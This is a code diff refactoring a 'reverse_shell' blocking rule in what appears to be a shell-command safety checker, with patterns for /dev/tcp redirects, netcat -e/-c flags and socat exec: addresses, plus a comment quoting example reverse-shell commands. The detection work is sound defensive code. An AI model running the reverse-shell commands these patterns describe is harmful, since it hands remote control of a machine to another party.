@@ -1,3 +1,4 @@
+import type { Redirect } from '../parsing/shell-walk.js';
 import type { ShellSegment } from '../parsing/shell-command.js';
 import { commandName } from '../parsing/command-facts.js';
 import { commandNames, segmentsRunning } from '../parsing/segment-index.js';
@@ -43,6 +44,21 @@ export const unreadableCodeRule = builtInRule({
   },
 });
 
+const SOCKET_TARGET = /^\/dev\/(?:tcp|udp)\//;
+const NETCATS = new Set(['nc', 'ncat', 'netcat']);
+const NETCAT_EXEC = new Set(['-e', '-c', '--exec', '--sh-exec']);
+const SOCAT_EXEC = /^(?:exec|system):/i;
+const runsNetcatExec = (arg: string) => NETCAT_EXEC.has(arg);
+const runsSocatExec = (arg: string) => SOCAT_EXEC.test(arg);
+const toSocket = (redirect: Redirect) => SOCKET_TARGET.test(redirect.target);
+
+/** Whether a command (named `cmd`) hands a shell to a socket. Asked of every command of a line: no closure per command. */
+function servesShell(segment: ShellSegment, cmd: string): boolean {
+  if (segment.redirects.length && segment.redirects.some(toSocket)) return true;
+  if (NETCATS.has(cmd)) return segment.argv.some(runsNetcatExec);
+  return cmd === 'socat' && segment.argv.some(runsSocatExec);
+}
+
 /** `bash -i >& /dev/tcp/host/port`, `nc -e /bin/sh`, `socat exec:sh tcp:…`: a shell served to another machine. */
 export const reverseShellRule = builtInRule({
   name: 'reverse_shell',
@@ -51,12 +67,7 @@ export const reverseShellRule = builtInRule({
   reads: 'action',
   check({ action }) {
     const names = commandNames(action.segments);
-    const hit = action.segments.find((s, i) => {
-      const cmd = names[i]!;
-      if (s.redirects.some((r) => /^\/dev\/(?:tcp|udp)\//.test(r.target))) return true;
-      if ((cmd === 'nc' || cmd === 'ncat' || cmd === 'netcat') && s.argv.some((a) => a === '-e' || a === '-c' || a === '--exec' || a === '--sh-exec')) return true;
-      return cmd === 'socat' && s.argv.some((a) => /^(?:exec|system):/i.test(a));
-    });
+    const hit = action.segments.find((s, i) => servesShell(s, names[i]!));
     if (!hit) return null;
     return {
       verdict: 'block',
